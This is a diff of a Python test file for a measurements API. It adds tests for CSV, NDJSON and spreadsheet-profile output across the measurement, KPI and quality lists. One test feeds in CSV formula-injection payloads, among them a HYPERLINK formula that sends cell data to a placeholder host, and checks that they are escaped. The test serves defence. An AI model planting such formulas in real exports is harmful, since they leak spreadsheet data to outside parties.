@@ -4,7 +4,7 @@ import base64
 import csv
 import io
 import json
-from collections.abc import Callable, Mapping, Sequence
+from collections.abc import Callable, Iterator, Mapping, Sequence
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 from functools import cache
@@ -47,6 +47,8 @@ NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)
 RAW_ID = UUID("01a20e71-e5a4-700b-bae4-431c79e16819")
 UPDATED = datetime(2026, 11, 24, 16, 44, 36, 201544, tzinfo=UTC)
 
+SPREADSHEET = "text/csv; charset=utf-8; header=present; profile=spreadsheet"
+
 LAMBDA_BYTES = 6_291_556
 """What Lambda lets an answer have, all in all."""
 
@@ -61,13 +63,14 @@ def arrivals(**changes: Any) -> Arrivals:  # noqa: ANN401 - any field's
     return Arrivals(**values | changes)
 
 
+POOLED = Pooled(1.0, 0.5, 0.0, 2.0, NOON, NOON + timedelta(seconds=60))
 KPI = Kpi(
     NOON,
     NOON + timedelta(hours=1),
     "a",
     2,
     4,
-    Pooled(1.0, 0.5, 0.0, 2.0, NOON, NOON + timedelta(seconds=60)),
+    POOLED,
     Gaps(1, 60.0, 30.0, 53.8),
     arrivals(),
 )
@@ -373,34 +376,94 @@ def test_an_entry_that_is_larger_than_an_answer_is_given_all_the_same(
         ("text/html", None),
         ("application/json;q=0", None),
         ("text/csv;q=x", None),
+        ("text/csv; header=present", "text/csv; charset=utf-8; header=present"),
+        ("text/csv; header=absent", None),
+        ("text/csv; profile=spreadsheet", SPREADSHEET),
+        ('text/csv; profile="spreadsheet"; charset=utf-8', SPREADSHEET),
+        ("text/csv;q=0.5, text/csv;profile=spreadsheet", SPREADSHEET),
+        ("text/csv, text/csv;profile=spreadsheet;q=0.5", "text/csv; charset=utf-8; header=present"),
+        ("text/csv; profile=print", None),
+        ("application/json; profile=print", "application/json"),
     ],
 )
-def test_the_form_is_what_the_client_takes_best(get: Get, data: Data, accept: str, form: str | None) -> None:
+def test_the_format_is_what_the_client_accepts_best(get: Get, data: Data, accept: str, form: str | None) -> None:
     data.standing = [standing(0)]
 
-    for path in ("/measurements", "/measurements/2026-03-04T12:00Z"):
+    for path in ("/measurements", "/measurements/2026-03-04T12:00Z", "/kpis", "/quality"):
         answer = get(path, Accept=accept)
         if form is None:
             assert refused(answer, 406) == []
         else:
             content_type = header(answer, "Content-Type")
             assert content_type is not None
-            assert content_type.split(";")[0] == form
+            assert content_type == form if ";" in form else content_type.split(";")[0] == form
             assert header(answer, "Vary") == "Accept"
 
 
-def test_csv_and_ndjson_say_the_same_as_json(get: Get, data: Data) -> None:
+LISTS = ["measurements", "kpis", "quality"]
+
+
+@pytest.mark.parametrize("name", LISTS)
+def test_csv_and_ndjson_say_the_same_as_json(get: Get, data: Data, name: str) -> None:
     data.standing = [standing(1, 'a "b", c', "°C", {"k": 'v"'}), standing(2)]
-    listed = json_body(get("/measurements"))["measurements"]
+    data.kpi = [KPI._replace(source='a "b", c'), BARE]
+    latency = Latency(2.0, 9.0, 1.5, 8.0)
+    data.qualities = [Quality(NOON, NOON + timedelta(minutes=1), "ü\n", arrivals(latency=latency))]
+    listed = json_body(get(f"/{name}"))[name]
 
-    lines = get("/measurements", Accept="application/x-ndjson")["body"].splitlines()
-    rows = list(csv.DictReader(io.StringIO(get("/measurements", Accept="text/csv")["body"], newline="")))
+    lines = get(f"/{name}", Accept="application/x-ndjson")["body"].splitlines()
+    text = get(f"/{name}", Accept="text/csv")["body"]
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
 
+    assert text.endswith("\r\n")
     assert [json.loads(line) for line in lines] == listed
     for row, entry in zip(rows, listed, strict=True):
-        assert list(row) == list(entry)
-        for name, value in entry.items():
-            assert row[name] == value if isinstance(value, str) else json.loads(row[name]) == value
+        cells = dict(flattened(entry))
+        assert list(row) == list(cells)
+        for column, value in cells.items():
+            expected = "" if value is None else value
+            assert row[column] == expected if isinstance(expected, str) else json.loads(row[column]) == value
+
+
+def flattened(entry: Mapping[str, Any]) -> Iterator[tuple[str, Any]]:
+    """An entry's values by their columns: objects of fixed fields have a column for each of them."""
+    for name, value in entry.items():
+        if name in {"gaps", "latency_ms"}:
+            yield from ((f"{name}_{part}", each) for part, each in value.items())
+        else:
+            yield name, value
+
+
+@pytest.mark.parametrize("name", LISTS)
+def test_csv_for_a_spreadsheet_is_marked_as_utf_8_and_runs_nothing(get: Get, data: Data, name: str) -> None:
+    sources = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-1", "@x", "\tx", "\rx", "＝1", "ü=1", "'=1"]
+    data.standing = [standing(-1, source, "-°C") for source in sources]
+    data.kpi = [KPI._replace(source=source, pooled=POOLED._replace(mean=-1.0)) for source in sources]
+    data.qualities = [Quality(NOON, NOON, source, arrivals()) for source in sources]
+
+    plain, shown = (get(f"/{name}", Accept=accept) for accept in ("text/csv", "text/csv; profile=spreadsheet"))
+
+    assert header(shown, "Content-Disposition") == f'attachment; filename="{name}.csv"'
+    assert shown["body"].startswith("\ufeff")
+    rows, of_plain = (
+        list(csv.DictReader(io.StringIO(answer["body"].removeprefix("\ufeff"), newline="")))
+        for answer in (shown, plain)
+    )
+    assert [row["source"] for row in of_plain] == sources
+    assert [row["source"] for row in rows] == [*(f"'{source}" for source in sources[:-2]), *sources[-2:]]
+    # Numbers stay numbers, negative ones too, and everything else is the same.
+    assert [row.get("mean") for row in rows] == ([None] if name == "quality" else ["-1.0"]) * len(rows)
+    for marked, bare in zip(rows, of_plain, strict=True):
+        assert marked | {"source": "", "unit": ""} == bare | {"source": "", "unit": ""}
+
+
+def test_plain_csv_has_no_mark_and_no_file_name(get: Get, data: Data) -> None:
+    data.standing = [standing(1, "=1")]
+    answer = get("/measurements", Accept="text/csv")
+
+    assert answer["body"].startswith("measured_at,source,mean,")
+    assert answer["body"].splitlines()[1].split(",")[1] == "=1"
+    assert header(answer, "Content-Disposition") is None
 
 
 def test_no_measurements_are_an_empty_list_in_every_form(get: Get) -> None:
